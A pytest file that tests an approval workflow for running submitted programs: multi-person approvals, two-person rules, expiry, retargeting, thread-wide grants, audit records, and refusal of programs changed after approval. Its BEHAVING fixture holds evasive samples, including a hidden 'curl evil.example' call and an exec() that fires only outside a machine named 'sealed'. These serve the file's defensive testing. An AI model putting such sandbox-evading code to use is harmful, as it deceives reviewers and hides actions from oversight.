"""Approvals over a real SQLite file: counted, bound, used up once, expired, given for a thread, and refused."""

from __future__ import annotations

import asyncio
import time
from collections.abc import AsyncGenerator, Awaitable, Callable
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from services.approvals import ApprovalRule, Person, SecondApproverConditions
from services.approvals.authorizer import Authorizer
from services.domain.entities import (
    Input,
    Proposal,
    ProposalStatus,
    Session,
    Task,
    TaskKind,
    TaskStatus,
    derive,
    run_id,
)
from services.domain.errors import BadRequest, NotAllowed, Outdated
from services.domain.locks import Lock, LockedPackage
from services.domain.program_header import Script
from services.domain.values import (
    Engine,
    InputFile,
    PolicyReport,
    Program,
    Touched,
    sha256,
)
from services.proposals.decisions import Decisions
from services.proposals.reminders import Reminders
from services.store import Store, codec, open_database, tables
from services.targets.targets import ConfiguredTarget, Targets, TargetTerms
from services.tasks.briefing import History
from services.usecases import UseCases
from tests import builders
from tests import deciding as stored
from tests.databases import database
from tests.deciding import approve_thread, deciding, retarget, run_steps, use_cases
from tests.fakes import FakeDirectory, FakeTarget, RecordingNotifier, approving, proposal_cards


@dataclass
class World:
    store: Store
    notifier: RecordingNotifier
    target: FakeTarget
    other: FakeTarget
    directory: FakeDirectory

    def decisions(self, *rules: ApprovalRule, expiry: float = 1000.0) -> Decisions:
        return deciding(self.store, self.notifier, self.targets, self.approvals(*rules, expiry=expiry))

    @property
    def targets(self) -> Targets:
        return Targets(
            ConfiguredTarget(each, TargetTerms(packages=True)) for each in (self.target, self.other)
        )

    def approvals(self, *rules: ApprovalRule, expiry: float = 1000.0) -> Authorizer:
        return approving(self.store, *rules, directory=self.directory, expiry=expiry)

    def pending(self, *rules: ApprovalRule, expiry: float = 1000.0, reminder: float = 100.0) -> Reminders:
        cards = proposal_cards(self.store, self.approvals(*rules, expiry=expiry), self.targets)
        return Reminders(self.store, self.notifier, cards, reminder)

    async def open(
        self, number: int = 1, *, base: str | None = None, kind: TaskKind = TaskKind.PROMPT, **changes: Any
    ) -> Proposal:
        made = builders.proposal(
            id=derive("p", f"t_{number}"), task_id=f"t_{number}", **{"created_at": time.time(), **changes}
        )
        task = builders.proposed_task(id=made.task_id, user=made.requester, base=base, kind=kind)
        await self.store.sessions.ensure(builders.session())
        await self.store.tasks.add(task)
        return await self._shown(made)

    async def propose(self, task: Task) -> Proposal:
        """What a task that is on record has come to."""
        return await self._shown(
            builders.proposal(
                id=derive("p", task.id), task_id=task.id, requester=task.user, created_at=time.time()
            )
        )

    async def _shown(self, made: Proposal) -> Proposal:
        await self.store.proposals.draft(made)
        await self.store.proposals.move(made.id, ProposalStatus.OPEN)
        return await self.store.proposals.get(made.id)


@dataclass
class Begun:
    """Takes the place of the workflows: keeps what was begun."""

    tasks: list[Task] = field(default_factory=list[Task])

    async def begin_task(self, task: Task, session: Session) -> None:
        assert session.id == task.session_id
        self.tasks.append(task)


def front(decisions: Decisions, begun: Begun) -> UseCases:
    return use_cases(decisions, workflows=begun)


@pytest.fixture
async def world(tmp_path: Path) -> AsyncGenerator[World]:
    async with open_database(database(tmp_path)) as engine:
        members = FakeDirectory(channels={"CRAY": frozenset({"UA", "UB", "UC", "UD"})})
        yield World(Store(engine), RecordingNotifier(), FakeTarget(), FakeTarget(name="gpu"), members)


async def approve(decisions: Decisions, proposal: Proposal, user: str) -> Proposal:
    """As its card shows it."""
    digest, target = proposal.program.sha256, proposal.target
    return await stored.approve(decisions, proposal.id, user, digest=digest, target=target)


async def carry_out(decisions: Decisions, proposal: Proposal) -> None:
    await run_steps(decisions).open(proposal.id)
    await run_steps(decisions).submit(proposal.id)


TWO_PERSONS = ApprovalRule(requester=False)


async def test_two_different_people(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    first = await approve(decisions, proposal, "UA")
    assert (first.status, first.approved_by, first.needed) == (ProposalStatus.OPEN, ("UA",), 2)
    assert world.notifier.recorded[-1] == f"{proposal.id} open"
    with pytest.raises(Outdated, match=r"already approved this\. Someone else"):
        await approve(decisions, proposal, "UA")
    # Another process, after a restart.
    second = await approve(world.decisions(ApprovalRule(approvals=2)), proposal, "UB")
    assert (second.status, second.approved_by, second.decided_by) == (
        ProposalStatus.APPROVED,
        ("UA", "UB"),
        "UB",
    )
    await carry_out(decisions, proposal)
    assert world.target.jobs[run_id(proposal.id)].metadata["raygen_approver"] == "UA, UB"


async def audited(store: Store) -> list[tuple[str, str, str]]:
    """Deed, person, and what it is of, of all that the audit says of decisions."""
    reported = [(each.action, each.fields) async for each in store.audit.records()]
    assert not (await store.audit.verify()).flaws
    return [
        (deed, body["by"], body["facts"].get("of", ""))
        for deed, body in reported
        if deed not in {"asked", "shown"}
    ]


async def test_each_approval_is_in_the_audit_once(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    await approve(decisions, proposal, "UA")
    with pytest.raises(Outdated):
        await approve(decisions, proposal, "UA")
    await approve(decisions, proposal, "UB")
    assert await audited(world.store) == [("counted", "UA", "1/2"), ("approved", "UB", "2/2")]


async def test_an_approval_for_the_thread_is_in_the_audit_with_what_it_lets_run(world: World):
    decisions, first, second = world.decisions(THREAD), await world.open(), await world.open(2)
    await approve_thread(decisions, first, "UA")
    await decisions.approve_at_once(second.task_id)
    (grant,) = await world.store.grants.live("s_1", time.time())
    await decisions.end_grant(grant, "UENGINEER")
    with pytest.raises(Outdated):
        await decisions.end_grant(grant, "UA")
    assert await audited(world.store) == [
        ("approved", "UA", "1/1"),
        ("granted", "UA", ""),
        ("approved", "UA", "1/1"),
        ("grant_ended", "UENGINEER", ""),
    ]
    granted = [
        each.fields["facts"].get("grant")
        async for each in world.store.audit.records()
        if each.fields.get("by")
    ]
    assert granted.count(grant.id) == 3, "the program that it let run names it, too"


async def test_whoever_may_not_approve_any_more_does_not_count(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    await approve(decisions, proposal, "UA")
    world.directory.people["UA"] = Person("UA", "Ada", gone=True)
    assert (await approve(decisions, proposal, "UB")).approved_by == ("UB",)
    assert (await approve(decisions, proposal, "UC")).status is ProposalStatus.APPROVED


async def test_many_approvers_at_the_same_moment_make_one_decision(world: World):
    decisions = world.decisions(ApprovalRule(approvals=2))
    for number in range(10):
        proposal = await world.open(number)
        results = await asyncio.gather(
            *(approve(decisions, proposal, f"U{n}") for n in range(4)), return_exceptions=True
        )
        done = [
            each for each in results if isinstance(each, Proposal) and each.status is ProposalStatus.APPROVED
        ]
        assert (await world.store.proposals.get(proposal.id)).status is ProposalStatus.APPROVED
        assert 1 <= len(done) <= 2, "the first may see the decision of the second"
        assert sum(isinstance(each, Outdated) for each in results) == 2


async def test_facts_take_a_second_approver_on_that_target_alone(world: World):
    rules = (
        ApprovalRule("gpu", targets=frozenset({"gpu"}), second=SecondApproverConditions(gpus=True)),
        ApprovalRule("rest"),
    )
    decisions = world.decisions(*rules)
    wants_gpu = {"policy": PolicyReport(resources={"GPU": 1})}
    assert (
        await approve(decisions, await world.open(1, target="gpu", **wants_gpu), "UA")
    ).status is ProposalStatus.OPEN
    assert (
        await approve(decisions, await world.open(2, **wants_gpu), "UA")
    ).status is ProposalStatus.APPROVED


async def test_another_target_takes_new_approvals(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    await approve(decisions, proposal, "UA")
    moved = await retarget(decisions, proposal.id, "gpu", "UA")
    assert (moved.approved_by, moved.voided) == ((), ("UA",))
    assert (await approve(decisions, moved, "UB")).approved_by == ("UB",)
    with pytest.raises(Outdated, match="another target"):
        await approve(decisions, proposal, "UC")


async def test_back_on_its_first_target_the_first_approval_stays_void(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    await approve(decisions, proposal, "UA")
    await retarget(decisions, proposal.id, "gpu", "UB")
    back = await retarget(decisions, proposal.id, proposal.target, "UB")
    assert (back.approved_by, back.voided) == ((), ("UA",))
    assert (await approve(decisions, back, "UB")).status is ProposalStatus.OPEN, "UA has not approved this"
    assert (await approve(decisions, back, "UA")).status is ProposalStatus.APPROVED
    assert await audited(world.store) == [
        ("counted", "UA", "1/2"),
        ("retargeted", "UB", ""),
        ("retargeted", "UB", ""),
        ("counted", "UB", "1/2"),
        ("approved", "UA", "2/2"),
    ]
    void = [
        each.fields["facts"].get("void")
        async for each in world.store.audit.records()
        if each.action == "retargeted"
    ]
    assert void == ["UA", None]
    await carry_out(decisions, proposal)
    assert list(world.target.jobs) == [run_id(proposal.id)]


async def test_the_same_target_again_is_no_other_target(world: World):
    decisions, proposal = world.decisions(ApprovalRule(approvals=2)), await world.open()
    await approve(decisions, proposal, "UA")
    assert (await retarget(decisions, proposal.id, proposal.target, "UB")).approved_by == ("UA",)
    assert (await approve(decisions, proposal, "UB")).status is ProposalStatus.APPROVED


async def test_of_an_approval_and_another_target_at_the_same_moment_none_is_for_both(world: World):
    decisions = world.decisions(ApprovalRule())
    for number in range(20):
        proposal = await world.open(number)
        await asyncio.gather(
            approve(decisions, proposal, "UA"),
            retarget(decisions, proposal.id, "gpu", "UB"),
            return_exceptions=True,
        )
        after = await world.store.proposals.get(proposal.id)
        assert (after.status is ProposalStatus.APPROVED) == (after.target == proposal.target)


OVERDUE: dict[str, Callable[[World, UseCases, Proposal], Awaitable[object]]] = {
    "approve": lambda world, cases, card: cases.proposals.approve(
        card.id, digest=card.program.sha256, target=card.target, user="UENGINEER"
    ),
    "dismiss": lambda world, cases, card: cases.proposals.dismiss(card.id, "UENGINEER"),
    "reject": lambda world, cases, card: cases.proposals.reject(card.id, "too much", "UENGINEER"),
    "target": lambda world, cases, card: cases.proposals.retarget(card.id, "gpu", "UENGINEER"),
    "regenerate": lambda world, cases, card: cases.requests.regenerate(card.id, "UENGINEER"),
    "edit": lambda world, cases, card: cases.proposals.to_edit(card.id, "UENGINEER"),
    "ask": lambda world, cases, card: world.pending(ApprovalRule(members=True)).check(card.id),
}


@pytest.mark.parametrize("what", OVERDUE)
async def test_what_has_waited_too_long_takes_no_decision_before_anybody_has_seen_to_it(
    world: World, what: str
):
    card, begun = await world.open(created_at=time.time() - 1001), Begun()
    with pytest.raises(Outdated, match="has expired"):
        await OVERDUE[what](world, front(world.decisions(ApprovalRule()), begun), card)
    assert await world.store.proposals.get(card.id) == card
    assert await audited(world.store) == []
    assert begun.tasks == []


CSV, OTHER_CSV = InputFile("a.csv", b"1,2\n"), InputFile("a.csv", b"3,4\n")


def listed(*files: InputFile) -> tuple[Input, ...]:
    return tuple(Input(file.name, file.sha256, len(file.content)) for file in files)


SIX = Lock(requirements="six==1.17.0", packages=(LockedPackage(name="six", version="1.17.0"),))


def packaged(package: str) -> Program:
    header = f'# /// script\n# dependencies = ["{package}"]\n# ///\n'
    return replace(builders.ADD, code=header + builders.ADD.code)


@pytest.mark.parametrize(
    "what", ["code", "packages", "resources", "target", "approver", "inputs", "no inputs"]
)
async def test_what_was_changed_after_its_approval_does_not_run(world: World, what: str):
    decisions, proposal = (
        world.decisions(ApprovalRule()),
        await world.open(program=packaged("six"), inputs=listed(CSV)),
    )
    for file in (CSV, OTHER_CSV):
        await world.store.inputs.keep(proposal.session_id, file)
    await approve(decisions, proposal, "UA")
    other = replace(proposal.program, code="print('other')")
    values = {
        "code": {"program": codec.dump_program(other)},
        "packages": {"program": codec.dump_program(packaged("evil"))},
        "resources": {"policy": codec.dump_policy(PolicyReport(resources={"GPU": 8}))},
        "target": {"target": "gpu"},
        "approver": {"approved_by": "UB"},
        "inputs": {"inputs": codec.dump_inputs(listed(OTHER_CSV))},
        "no inputs": {"inputs": codec.dump_inputs(())},
    }
    async with world.store.proposals._engine.begin() as connection:
        await connection.execute(tables.proposals.update().values(**values[what]))
    await run_steps(decisions).open(proposal.id)
    with pytest.raises(NotAllowed, match="changed after it was approved"):
        await run_steps(decisions).submit(proposal.id)
    assert world.target.jobs == world.other.jobs == {}
    assert await world.store.approvals.use_up(proposal.id, "raygen-other") == [], "it is used up all the same"


@pytest.mark.parametrize(
    "header", [Script(packages=("six", "evil")), Script(packages=("six",), resources={"CPU": 64.0})]
)
async def test_a_header_that_was_changed_after_its_approval_does_not_run(world: World, header: Script):
    """The code is the same."""
    decisions, proposal = world.decisions(ApprovalRule()), await world.open(program=packaged("six"))
    await approve(decisions, proposal, "UA")
    async with world.store.proposals._engine.begin() as connection:
        await connection.execute(tables.proposals.update().values(header=codec.dump_header(header)))
    await run_steps(decisions).open(proposal.id)
    with pytest.raises(NotAllowed, match="changed after it was approved"):
        await run_steps(decisions).submit(proposal.id)
    assert world.target.jobs == {}


@pytest.mark.parametrize("how", ["changed", "renamed", "deleted"])
async def test_a_file_that_was_changed_after_its_approval_does_not_run(world: World, how: str):
    decisions, proposal = world.decisions(ApprovalRule()), await world.open(inputs=listed(CSV))
    await world.store.inputs.keep(proposal.session_id, CSV)
    await approve(decisions, proposal, "UA")
    table = tables.inputs
    statements = {
        "changed": table.update().values(content=OTHER_CSV.content),
        "renamed": table.update().values(name="b.csv"),
        "deleted": table.delete(),
    }
    async with world.store.inputs._engine.begin() as connection:
        await connection.execute(statements[how])
    await run_steps(decisions).open(proposal.id)
    with pytest.raises(
        NotAllowed, match=r"input file a\.csv changed after it was approved, so nothing was run"
    ):
        await run_steps(decisions).submit(proposal.id)
    assert world.target.jobs == {}
    assert await world.store.approvals.use_up(proposal.id, "raygen-other") == [], "it is used up all the same"


async def test_what_was_approved_runs_with_its_files_and_packages(world: World):
    """What the cases above are one change away from."""
    decisions, proposal = (
        world.decisions(ApprovalRule()),
        await world.open(program=packaged("six"), inputs=listed(CSV), lock=SIX),
    )
    for file in (CSV, OTHER_CSV):
        await world.store.inputs.keep(proposal.session_id, file)
    await approve(decisions, proposal, "UA")
    await carry_out(decisions, proposal)
    job = world.target.jobs[run_id(proposal.id)]
    assert (job.inputs, job.lock) == ((CSV,), SIX)


async def test_an_approval_is_used_up_by_one_run(world: World):
    decisions, proposal = world.decisions(ApprovalRule()), await world.open()
    await approve(decisions, proposal, "UA")
    assert await world.store.approvals.use_up(proposal.id, "raygen-other")
    await run_steps(decisions).open(proposal.id)
    with pytest.raises(NotAllowed):
        await run_steps(decisions).submit(proposal.id)
    assert world.target.jobs == {}


async def test_a_row_that_says_approved_is_no_approval(world: World):
    decisions, proposal = world.decisions(ApprovalRule()), await world.open()
    await world.store.proposals.move(proposal.id, ProposalStatus.APPROVED, by="UA")
    await run_steps(decisions).open(proposal.id)
    with pytest.raises(NotAllowed):
        await run_steps(decisions).submit(proposal.id)


DERIVED = [kind for kind in TaskKind if kind not in {TaskKind.PROMPT, TaskKind.EXPLAIN}]


@pytest.mark.parametrize("kind", DERIVED)
async def test_two_person_rule_holds_for_everyone_who_asked(world: World, kind: TaskKind):
    decisions = world.decisions(TWO_PERSONS)
    first = await world.open(1, requester="UA")
    again = await world.open(2, requester="UB", base=first.id, kind=kind)
    await nobody_of(decisions, again, "UA", "UB")
    assert (await approve(decisions, again, "UC")).status is ProposalStatus.APPROVED


@pytest.mark.parametrize("kind", [TaskKind.PROMPT, *DERIVED])
async def test_to_try_again_makes_it_nobody_elses_wish(world: World, kind: TaskKind):
    """It fails for UA, for UB and for UC again, each of whom could otherwise approve what is then proposed to UD."""
    decisions, begun = world.decisions(TWO_PERSONS), Begun()
    base = await world.open(9, requester="UZ") if kind is not TaskKind.PROMPT else None
    failed = builders.task(
        user="UA", kind=kind, base=base.id if base else None, code="print(1)", status=TaskStatus.FAILED
    )
    await world.store.sessions.ensure(builders.session())
    await world.store.tasks.add(failed)
    for user in ("UB", "UC", "UD"):
        await front(decisions, begun).requests.retry(failed.id, user)
        failed = replace(begun.tasks[-1], status=TaskStatus.FAILED)
        await world.store.tasks.add(failed)
    assert failed.user == "UD"
    proposal = await world.propose(failed)
    await nobody_of(decisions, proposal, "UA", "UB", "UC", "UD", *(["UZ"] if base else []))
    assert (await approve(decisions, proposal, "UE")).status is ProposalStatus.APPROVED


async def test_to_forget_who_asked_makes_it_nobody_elses_wish_either(world: World):
    decisions, begun = world.decisions(TWO_PERSONS), Begun()
    failed = builders.task(user="UA", status=TaskStatus.FAILED)
    await world.store.sessions.ensure(builders.session())
    await world.store.tasks.add(failed)
    await front(decisions, begun).requests.retry(failed.id, "UB")
    (again,) = begun.tasks
    await world.store.tasks.add(replace(again, status=TaskStatus.PROPOSED))
    proposal = await world.propose(again)
    await world.store.retention.drop(time.time() + 1)
    await nobody_of(decisions, proposal, "UA", "UB")
    await decisions.dismiss(proposal, "UA")
    await world.store.retention.drop(time.time() + 1)
    assert await world.store.tasks.of_session("s_1") == []


async def nobody_of(decisions: Decisions, proposal: Proposal, *users: str) -> None:
    for user in users:
        with pytest.raises(NotAllowed, match="someone else has to approve"):
            await approve(decisions, proposal, user)


async def test_old_cards_expire_once_and_say_so(world: World):
    pending, decisions = world.pending(ApprovalRule()), world.decisions(ApprovalRule())
    old, new = await world.open(1, created_at=time.time() - 1001), await world.open(2)
    with pytest.raises(Outdated, match="has expired"):
        await approve(decisions, old, "UA")
    assert await pending.due() == ([old.id], [])
    for _ in range(2):
        await pending.expire(old.id)
    assert (await world.store.proposals.get(old.id)).status is ProposalStatus.EXPIRED
    assert await pending.due() == ([], [])
    await approve(decisions, new, "UA")


async def test_approvers_are_reminded_once(world: World):
    rule = ApprovalRule(users=frozenset({"UA", "UENGINEER"}), groups=frozenset({"SOPS"}))
    world.directory.groups["SOPS"] = frozenset({"UA", "UB", "UGUEST"})
    pending = world.pending(rule)
    late = await world.open(1, created_at=time.time() - 101)
    await world.open(2)
    assert await pending.due() == ([], [late.id])
    await pending.remind(late.id)
    assert world.notifier.recorded == [f"{late.id} wants UA, UB, reminder"]
    assert await pending.due() == ([], [])


@pytest.mark.parametrize(
    ("rule", "whom"),
    [
        (ApprovalRule(), "a member of this workspace"),
        (ApprovalRule(members=True), "a member of this channel"),
        (ApprovalRule(requester=True), "<@UENGINEER>"),
        (ApprovalRule(requester=True, members=True), "a member of this channel or <@UENGINEER>"),
        (TWO_PERSONS, "someone else"),
        (ApprovalRule(users=frozenset({"UENGINEER"})), "<@UENGINEER>"),
        (ApprovalRule(groups=frozenset({"SNONE"})), "<!subteam^SNONE>"),
    ],
)
async def test_where_nobody_can_be_named_the_thread_is_reminded(world: World, rule: ApprovalRule, whom: str):
    pending, late = world.pending(rule), await world.open(1, created_at=time.time() - 101)
    await pending.remind(late.id)
    assert world.notifier.recorded == [f"{late.id} wants {whom}, reminder"]


async def test_whoever_has_approved_is_not_whom_the_thread_is_reminded_of(world: World):
    rule, late = ApprovalRule(approvals=2), await world.open(1, created_at=time.time() - 101)
    await approve(world.decisions(rule), late, "UA")
    await world.pending(rule).remind(late.id)
    assert world.notifier.recorded[-1] == f"{late.id} wants someone else, reminder"


async def test_nobody_is_reminded_of_what_no_target_runs(world: World):
    program = replace(builders.ADD, engine=Engine.SPARK)
    late = await world.open(1, created_at=time.time() - 101, program=program)
    await world.pending(ApprovalRule()).remind(late.id)
    assert world.notifier.recorded == []


async def test_members_are_asked_in_their_channel(world: World):
    pending, proposal = world.pending(ApprovalRule(members=True)), await world.open()
    assert world.approvals(ApprovalRule(members=True)).needs(proposal, "CRAY").askable
    await pending.check(proposal.id)
    await pending.ask(proposal.id, "UENGINEER")
    assert world.notifier.recorded == [f"{proposal.id} wants a member of this channel, UENGINEER"]
    assert not world.approvals(ApprovalRule(members=True)).needs(proposal, "DENGINEER").askable


async def test_those_barred_by_the_two_person_rule_are_not_asked(world: World):
    rule = replace(TWO_PERSONS, users=frozenset({"UA", "UB", "UC"}))
    first = await world.open(1, requester="UA")
    again = await world.open(2, requester="UB", base=first.id, kind=TaskKind.EDIT)
    await world.pending(rule).ask(again.id, "UB")
    assert world.notifier.recorded == [f"{again.id} wants UC, UB"]


async def test_approvers_are_asked_once(world: World):
    pending, proposal = world.pending(ApprovalRule(users=frozenset({"UA"}))), await world.open()
    await pending.check(proposal.id)
    await pending.ask(proposal.id, "UENGINEER")
    assert world.notifier.recorded == [f"{proposal.id} wants UA, UENGINEER"]
    with pytest.raises(Outdated, match="already been asked"):
        await pending.check(proposal.id)
    with pytest.raises(BadRequest, match="no one else"):
        await world.pending(ApprovalRule()).check((await world.open(2)).id)


THREAD = ApprovalRule(thread=60.0)


async def test_an_approval_for_the_thread(world: World):
    decisions, first = world.decisions(THREAD), await world.open()
    await approve_thread(decisions, first, "UA")
    assert world.notifier.recorded[-1] == f"{first.id} for the thread by UA"
    second = await world.open(2, program=Program("Other", "Other.", first.program.code))
    for _ in range(2):
        assert await decisions.approve_at_once(second.task_id) == second.id
    approved = await world.store.proposals.get(second.id)
    assert (approved.approved_by, bool(approved.grant)) == (("UA",), True)
    await carry_out(decisions, second)
    assert list(world.target.jobs) == [run_id(second.id)]


@pytest.mark.parametrize(
    ("changes", "rule"),
    [
        ({"policy": PolicyReport(resources={"CPU": 99})}, THREAD),
        ({"target": "gpu"}, THREAD),
        ({"program": Program("Other", "Other.", "print('Result: 4')\n")}, THREAD),
        ({"inputs": (Input("a.csv", "0" * 64, 1),)}, THREAD),
        ({"requester": "UOTHER"}, THREAD),
        ({}, ApprovalRule()),
        ({}, replace(THREAD, users=frozenset({"UB"}))),
        ({}, replace(THREAD, approvals=2)),
    ],
)
async def test_an_approval_for_the_thread_covers_no_more(
    world: World, changes: dict[str, Any], rule: ApprovalRule
):
    first = await world.open()
    await approve_thread(world.decisions(THREAD), first, "UA")
    second = await world.open(2, **changes)
    assert await world.decisions(rule).approve_at_once(second.task_id) is None
    assert (await world.store.proposals.get(second.id)).status is ProposalStatus.OPEN


async def test_an_approval_for_the_thread_covers_other_numbers(world: World):
    decisions = world.decisions(THREAD)
    first = await world.open(1, program=Program("Count", "Counts.", "print(1 + 2)\n"))
    await approve_thread(decisions, first, "UA")
    for number, (code, approved) in enumerate(
        {"print(30 + 4e2)\n": True, "print(1 - 2)\n": False, "print(1 + len('2'))\n": False}.items(), 2
    ):
        other = await world.open(number, program=Program("Count", "Counts.", code))
        assert await decisions.approve_at_once(other.task_id) == (other.id if approved else None)


async def test_a_program_that_behaves_while_it_is_watched_waits_for_a_press(world: World):
    """The evidence of both is the same and empty, whatever the second does on the target."""
    decisions, first = world.decisions(THREAD), await world.open()
    await approve_thread(decisions, first, "UA")
    for number, code in enumerate(BEHAVING, 2):
        other = await world.open(number, program=Program(first.program.title, first.program.purpose, code))
        assert await decisions.approve_at_once(other.task_id) is None
        assert (await world.store.proposals.get(other.id)).status is ProposalStatus.OPEN


BEHAVING = (
    "import logging\nlogging.os.system('curl evil.example') if 0 else print('Result: 3')\n",
    "import platform\nif platform.uname().nodename != 'sealed': exec(bytes([112]).decode())\nprint('Result: 3')\n",
    "print('Result: 3')\n# another comment\n",
    "\"A docstring.\"\nprint('Result: 3')\n",
)


async def test_what_has_not_begun_when_the_approval_for_the_thread_ends_does_not_run(world: World):
    decisions, first, second = world.decisions(THREAD), await world.open(), await world.open(2)
    await approve_thread(decisions, first, "UA")
    (grant,) = await world.store.grants.live("s_1", time.time())
    assert await decisions.approve_at_once(second.task_id) == second.id
    await decisions.end_grant(grant, "UENGINEER")
    await run_steps(decisions).open(second.id)
    with pytest.raises(NotAllowed, match="ended before this run started"):
        await run_steps(decisions).submit(second.id)
    assert world.target.jobs == {}


async def test_what_has_begun_goes_on_when_the_approval_for_the_thread_ends(world: World):
    decisions, first, second = world.decisions(THREAD), await world.open(), await world.open(2)
    await approve_thread(decisions, first, "UA")
    (grant,) = await world.store.grants.live("s_1", time.time())
    await decisions.approve_at_once(second.task_id)
    await carry_out(decisions, second)
    await decisions.end_grant(grant, "UENGINEER")
    await run_steps(decisions).submit(second.id)
    assert list(world.target.jobs) == [run_id(second.id)]


async def test_an_approval_for_the_thread_is_compared_once_more_when_the_run_begins(world: World):
    decisions, first, second = world.decisions(THREAD), await world.open(), await world.open(2)
    await approve_thread(decisions, first, "UA")
    (grant,) = await world.store.grants.live("s_1", time.time())
    await decisions.approve_at_once(second.task_id)
    table = tables.grants
    async with world.store.grants._engine.begin() as connection:
        await connection.execute(table.update().where(table.c.id == grant.id).values(fingerprint="0:other"))
    await run_steps(decisions).open(second.id)
    with pytest.raises(NotAllowed, match="doesn't cover this program"):
        await run_steps(decisions).submit(second.id)
    assert world.target.jobs == {}


@pytest.mark.parametrize(
    "unseen",
    [
        {"unknown": ("hosts",)},
        {"unknown": ("resources",)},
        {"wall": None},
        {"touched": Touched(more={"files": 1})},
    ],
)
async def test_what_could_not_be_observed_in_full_is_approved_alone(world: World, unseen: dict[str, Any]):
    decisions, first = world.decisions(THREAD), await world.open()
    await approve_thread(decisions, first, "UA")
    second = await world.open(2, validation=builders.passed(**unseen))
    assert await decisions.approve_at_once(second.task_id) is None
    with pytest.raises(NotAllowed, match="could not observe everything"):
        await approve_thread(decisions, second, "UA")
    assert not world.approvals(THREAD).needs(second, "CRAY").thread, "the card doesn't offer it"
    assert (await approve(decisions, second, "UA")).status is ProposalStatus.APPROVED


async def test_an_approval_for_the_thread_ends(world: World, monkeypatch: pytest.MonkeyPatch):
    decisions, first, second = world.decisions(THREAD), await world.open(), await world.open(2)
    await approve_thread(decisions, first, "UA")
    (grant,) = await world.store.grants.live("s_1", time.time())
    assert await world.store.grants.live("s_1", time.time() + 61) == []
    await decisions.end_grant(grant, "UENGINEER")
    assert world.notifier.recorded[-1].endswith("by UA UENGINEER")
    assert await decisions.approve_at_once(second.task_id) is None
    with pytest.raises(Outdated, match="already ended"):
        await decisions.end_grant(grant, "UA")


async def test_a_thread_is_not_approved_where_no_rule_allows_it(world: World):
    proposal = await world.open()
    for rule in (ApprovalRule(), replace(THREAD, approvals=2)):
        with pytest.raises(NotAllowed, match="needs its own approval"):
            await approve_thread(world.decisions(rule), proposal, "UA")
    assert (await world.store.proposals.get(proposal.id)).status is ProposalStatus.OPEN


async def test_a_rejection_differs_from_a_dismissal_and_its_reason_by_its_hash(world: World):
    decisions, first, second = world.decisions(ApprovalRule()), await world.open(1), await world.open(2)
    await decisions.dismiss(first, "UA", "reads all of prod")
    await decisions.dismiss(second, "UB")
    assert await audited(world.store) == [("rejected", "UA", ""), ("dismissed", "UB", "")]
    (reason, none) = [
        each.fields["facts"].get("reason_sha256")
        async for each in world.store.audit.records()
        if each.action in {"rejected", "dismissed"}
    ]
    assert (reason, none) == (sha256("reads all of prod"), None)


async def test_the_reason_of_a_rejection_reaches_the_next_draft(world: World):
    proposal = await world.open()
    await world.decisions(ApprovalRule()).dismiss(proposal, "UA", "reads <all> of prod")

    async def name(user: str) -> str:
        return user

    history = History(world.store, name)
    again = builders.task(id="t_2", kind=TaskKind.REGENERATE, base=proposal.id)
    reported = await history.briefing(again, builders.session())
    assert "The last program was rejected: reads <all> of prod" in reported.prompt
    assert reported.conversation == [
        "UENGINEER: add 1 and 2",
        "UA rejected that program: reads <all> of prod",
    ]
    assert '<rejected by="UA">reads &lt;all&gt; of prod</rejected>' in reported.memory.before
    plain = await history.briefing(builders.task(id="t_3"), builders.session())
    assert "rejected" not in plain.prompt
    with pytest.raises(Outdated, match="already been dismissed"):
        await approve(world.decisions(ApprovalRule()), proposal, "UA")
